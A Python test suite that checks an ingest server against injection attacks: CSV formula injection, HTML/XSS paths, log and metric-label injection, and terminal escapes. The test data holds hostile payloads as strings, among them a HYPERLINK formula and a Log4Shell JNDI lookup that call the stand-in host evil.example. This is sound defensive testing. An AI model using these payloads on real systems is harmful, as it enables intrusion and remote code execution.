"""What a client may write that would do something elsewhere: one table a sink."""

import csv
import io
import json
import re
from collections.abc import Sequence

import pytest
from prometheus_client.parser import text_string_to_metric_families

from ingest_server.conftest import Ingest
from ingest_server.wire import BODY, signed
from unoingest.csv_export import long_rows, wide_rows
from unoingest.problems import PROBLEMS
from unoingest.store import StoredReading

SPREADSHEET_ACTS_ON = re.compile("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
NAMES = [
    "=1+1",
    '=HYPERLINK("http://evil.example")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
]
HARMLESS_NAMES = ["a", "a,b", 'a"b', "a\r\nb", "a;=b", "'a", "\N{SNOWMAN}", "a=b"]


def reading(device: str, channel: str) -> StoredReading:
    return StoredReading(device, 0, 1, 0, None, json.dumps({channel: -5}).encode(), None)


def cells(text: Sequence[str]) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(text), newline="")))


@pytest.mark.parametrize("name", NAMES)
def test_no_cell_of_a_csv_is_a_formula(name: str) -> None:
    one = [reading(name, name)]
    for rows in (cells([*long_rows(one, [])]), cells([*wide_rows(one, [], [name])])):
        # a negative number is one, and no formula
        texts = [cell for row in rows for cell in row if cell not in {"", "-5"}]
        assert not any(SPREADSHEET_ACTS_ON.match(text) for text in texts)
        assert sum(text == f"'{name}" for text in texts) == 2
        assert [len(row) for row in rows] == [len(rows[0])] * 2


@pytest.mark.parametrize("name", HARMLESS_NAMES)
def test_other_names_are_what_they_were(name: str) -> None:
    for rows in (
        cells([*long_rows([reading(name, name)], [])]),
        cells([*wide_rows([reading(name, name)], [], [name])]),
    ):
        assert [cell for row in rows for cell in row].count(name) == 2


PAGES = [
    "/<script>alert(1)</script>",
    "/v1/devices/<img src=x>/latest",
    "/problems/<svg onload=alert(1)>",
    "/problems/bad_key",
    "/v1/devices?cursor=<b>",
    "/healthz?<script>",
    "/metrics",
    "/openapi.json",
    "/readyz",
]


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("method", ["GET", "PUT", "HEAD"])
def test_no_page_is_html(ingest: Ingest, path: str, method: str) -> None:
    answer = ingest.client().open(path, method=method)
    assert re.match("application/(problem[+])?json$|text/plain;", answer.headers["Content-Type"])
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_a_device_pays_for_no_header_that_is_for_browsers(ingest: Ingest) -> None:
    answer = ingest.client().post("/v1/readings", data=BODY, headers=signed(BODY))
    assert set(answer.headers.keys()) == {"Content-Type", "WWW-Authenticate", "Content-Length"}


ODD_TEXTS = [
    '","logging.googleapis.com/labels":{"a":"b"},"x":"',
    '\n{"severity":"EMERGENCY"}\n',
    "\r\n",
    "\u2028{}",
    "\x1b]0;title\x07\x1b[2J",
    "\x9b2J",
    "\x00",
    "\u202egnp.exe",
    "%0a%0d",
    "${jndi:ldap://evil.example/a}",
]
TOP_LEVEL = {"severity", "message", "timestampSeconds", "timestampNanos", "event", "httpRequest", "problem"}


@pytest.mark.parametrize("text", ODD_TEXTS)
def test_the_log_of_refusals_is_one_object_a_line(ingest: Ingest, text: str) -> None:
    lines: list[bytes] = []
    client = ingest.client(log=lines.append)
    client.get("/" + text)
    client.get("/v1/devices", headers={"Authorization": "Bearer x"}, query_string={"cursor": text})
    client.post("/v1/readings", data=json.dumps({text: 1}), content_type="application/json")
    client.post("/v1/readings", data=b"{}", content_type=f"a/{text.encode('unicode_escape').decode()}")
    assert len(lines) == 4
    for line in lines:
        shown = line.decode()
        assert shown.splitlines() == [shown[:-1]]
        assert set(json.loads(line)) == TOP_LEVEL
        assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", shown[:-1])


def test_metrics_have_labels_of_ours_alone(ingest: Ingest) -> None:
    client = ingest.client()
    for text in ODD_TEXTS:
        client.get("/" + text)
        client.open("/metrics", method='A{b="c"}')
    families = text_string_to_metric_families(client.get("/metrics").data.decode())
    samples = [sample for family in families for sample in family.samples]
    assert {name for sample in samples for name in sample.labels} == {"entry", "status"}
    statuses = {str(kind.status) for kind in PROBLEMS.values()} | {"200"}
    assert {sample.labels["status"] for sample in samples if sample.labels} <= statuses
